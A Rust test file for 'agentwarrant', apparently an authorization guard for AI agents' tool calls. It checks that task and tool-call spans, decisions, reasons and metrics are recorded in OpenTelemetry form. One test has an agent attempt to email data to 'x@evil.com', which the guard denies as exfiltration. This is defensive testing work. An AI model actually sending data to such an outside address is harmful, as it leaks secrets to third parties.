//! A task is an `invoke_agent` span and each call an `execute_tool` span below it, carrying
//! the OpenTelemetry GenAI attribute names and the decision; metrics are `tracing` events in
//! `tracing-opentelemetry`'s `MetricsLayer` form. Captured here by a plain `tracing` layer.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use agentwarrant::{ApprovalAnswer, Outcome, ReasonCode, ToolCall};
use serde_json::json;
use tracing::field::{Field, Visit};
use tracing::span::{Attributes, Id, Record};
use tracing_subscriber::layer::{Context, SubscriberExt};
use tracing_subscriber::Layer;

use crate::fixtures::*;

/// A span as the layer saw it.
#[derive(Debug, Clone, Default)]
struct Seen {
    name: String,
    target: String,
    parent: Option<u64>,
    fields: BTreeMap<String, String>,
    closed: bool,
}

/// Every span and every event of the guard's targets.
#[derive(Clone, Default)]
struct Capture {
    spans: Arc<Mutex<BTreeMap<u64, Seen>>>,
    events: Arc<Mutex<Vec<BTreeMap<String, String>>>>,
}

struct Fields<'a>(&'a mut BTreeMap<String, String>);

impl Visit for Fields<'_> {
    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
        self.0.insert(
            field.name().to_owned(),
            format!("{value:?}").trim_matches('"').to_owned(),
        );
    }

    fn record_str(&mut self, field: &Field, value: &str) {
        self.0.insert(field.name().to_owned(), value.to_owned());
    }
}

impl<S> Layer<S> for Capture
where
    S: tracing::Subscriber + for<'a> tracing_subscriber::registry::LookupSpan<'a>,
{
    fn on_new_span(&self, attrs: &Attributes<'_>, id: &Id, ctx: Context<'_, S>) {
        let mut seen = Seen {
            name: attrs.metadata().name().to_owned(),
            target: attrs.metadata().target().to_owned(),
            parent: ctx.span_scope(id).and_then(|mut scope| {
                scope.next();
                scope.next().map(|p| p.id().into_u64())
            }),
            ..Seen::default()
        };
        attrs.record(&mut Fields(&mut seen.fields));
        self.spans.lock().unwrap().insert(id.into_u64(), seen);
    }

    fn on_record(&self, id: &Id, values: &Record<'_>, _: Context<'_, S>) {
        if let Some(seen) = self.spans.lock().unwrap().get_mut(&id.into_u64()) {
            values.record(&mut Fields(&mut seen.fields));
        }
    }

    fn on_event(&self, event: &tracing::Event<'_>, _: Context<'_, S>) {
        if event.metadata().target() == "agentwarrant::metrics" {
            let mut fields = BTreeMap::new();
            event.record(&mut Fields(&mut fields));
            self.events.lock().unwrap().push(fields);
        }
    }

    fn on_close(&self, id: Id, _: Context<'_, S>) {
        if let Some(seen) = self.spans.lock().unwrap().get_mut(&id.into_u64()) {
            seen.closed = true;
        }
    }
}

impl Capture {
    fn spans(&self) -> Vec<(u64, Seen)> {
        self.spans.lock().unwrap().clone().into_iter().collect()
    }

    fn tool(&self, tool: &str) -> Seen {
        let spans = self.spans();
        let found = spans
            .iter()
            .find(|(_, s)| s.fields.get("gen_ai.tool.name").map(String::as_str) == Some(tool));
        found.map(|(_, s)| s.clone()).expect("a span for the tool")
    }

    fn metric(&self, name: &str) -> Vec<BTreeMap<String, String>> {
        let events = self.events.lock().unwrap();
        events
            .iter()
            .filter(|e| e.contains_key(name))
            .cloned()
            .collect()
    }
}

#[test]
fn a_task_and_its_calls_are_genai_spans_that_carry_the_decision() {
    let capture = Capture::default();
    let subscriber = tracing_subscriber::registry().with(capture.clone());
    tracing::subscriber::with_default(subscriber, || {
        let guard = builder().approver(approve_as(BOB)).build().unwrap();
        let task = guard.begin(ops(), anything()).unwrap();
        task.run(
            ToolCall::new("read_secret", json!({"path": "db/main"})),
            |_| Ok::<_, String>(()),
        )
        .unwrap();
        let refusal = task
            .authorize(ToolCall::new("send_email", json!({"to": "x@evil.com"})))
            .unwrap_err();
        assert!(refusal.has(&ReasonCode::Exfiltration));
        task.authorize(ToolCall::new("read_logs", json!({"service": "api"})))
            .unwrap()
            .complete(Outcome::error("the log store timed out"))
            .unwrap();
        task.end().unwrap();
    });

    let spans = capture.spans();
    let (task_id, task_span) = spans
        .iter()
        .find(|(_, s)| s.name == "invoke_agent")
        .expect("the task's span");
    assert_eq!(task_span.target, "agentwarrant::task");
    assert_eq!(
        task_span.fields["otel.name"],
        format!("invoke_agent {}", ops().id())
    );
    assert_eq!(task_span.fields["gen_ai.operation.name"], "invoke_agent");
    assert_eq!(task_span.fields["gen_ai.agent.id"], ops().id());
    assert_eq!(task_span.fields["agentwarrant.owner"], ALICE);

    let approved = capture.tool("read_secret");
    assert_eq!(approved.name, "execute_tool");
    assert_eq!(
        approved.parent,
        Some(*task_id),
        "a call's span is its task's child"
    );
    assert_eq!(approved.fields["otel.name"], "execute_tool read_secret");
    assert_eq!(approved.fields["gen_ai.operation.name"], "execute_tool");
    assert_eq!(approved.fields["agentwarrant.decision"], "approval");
    assert_eq!(approved.fields["agentwarrant.reasons"], "secret_access");
    assert_eq!(approved.fields["agentwarrant.approvers"], BOB);
    assert_eq!(approved.fields["agentwarrant.outcome"], "ok");
    assert_eq!(approved.fields["otel.status_code"], "ok");
    assert!(approved.fields.contains_key("gen_ai.tool.call.id"));
    assert!(approved.fields.contains_key("agentwarrant.policy.digest"));

    let refused = capture.tool("send_email");
    assert_eq!(refused.fields["agentwarrant.decision"], "deny");
    assert_eq!(refused.fields["agentwarrant.outcome"], "denied");
    assert_eq!(refused.fields["otel.status_code"], "error");
    assert_eq!(refused.fields["error.type"], "exfiltration");

    let failed = capture.tool("read_logs");
    assert_eq!(failed.fields["agentwarrant.outcome"], "error");
    assert_eq!(failed.fields["error.type"], "tool_error");
    assert!(
        spans.iter().all(|(_, s)| s.closed),
        "every span is closed once its call and task are over: {spans:?}"
    );

    let decisions = capture.metric("monotonic_counter.agentwarrant.decisions");
    let effects: Vec<&str> = decisions.iter().map(|e| e["effect"].as_str()).collect();
    assert_eq!(effects, ["approval", "deny", "allow"]);
    let reasons = capture.metric("monotonic_counter.agentwarrant.reasons");
    assert!(reasons
        .iter()
        .any(|e| e["reason"] == "exfiltration" && e["effect"] == "deny"));
    assert_eq!(
        capture
            .metric("histogram.agentwarrant.policy.eval_us")
            .len(),
        3
    );
    let latency = capture.metric("histogram.agentwarrant.approval.latency_ms");
    assert_eq!(latency.len(), 1);
    assert_eq!(latency[0]["answer"], "approved");
}

#[test]
fn a_refused_approval_names_the_engines_reason_and_a_delegated_task_nests_in_its_parent() {
    let capture = Capture::default();
    let subscriber = tracing_subscriber::registry().with(capture.clone());
    tracing::subscriber::with_default(subscriber, || {
        let guard = builder()
            .approver(|_: &agentwarrant::ApprovalRequest| {
                Ok(ApprovalAnswer::Denied {
                    by: Some(BOB.into()),
                    reason: Some("not today".into()),
                })
            })
            .build()
            .unwrap();
        let task = guard.begin(ops(), anything()).unwrap();
        let refusal = task
            .authorize(ToolCall::new("read_secret", json!({"path": "db/main"})))
            .unwrap_err();
        assert!(refusal.has(&ReasonCode::ApprovalDenied));
        let helper = agent("agent://acme/helper", agentwarrant::Role::Executor, ALICE);
        let sub = task.delegate(helper, None).unwrap();
        sub.end().unwrap();
        task.end().unwrap();
    });
    let refused = capture.tool("read_secret");
    assert_eq!(refused.fields["agentwarrant.outcome"], "approval_denied");
    assert_eq!(refused.fields["error.type"], "approval_denied");
    let latency = capture.metric("histogram.agentwarrant.approval.latency_ms");
    assert_eq!(latency[0]["answer"], "refused");

    let spans = capture.spans();
    let tasks: Vec<&(u64, Seen)> = spans
        .iter()
        .filter(|(_, s)| s.name == "invoke_agent")
        .collect();
    assert_eq!(tasks.len(), 2);
    let (root, _) = tasks[0];
    assert_eq!(tasks[1].1.fields["gen_ai.agent.id"], "agent://acme/helper");
    assert_eq!(
        tasks[1].1.parent,
        Some(*root),
        "a delegated task nests in its parent's span"
    );
}
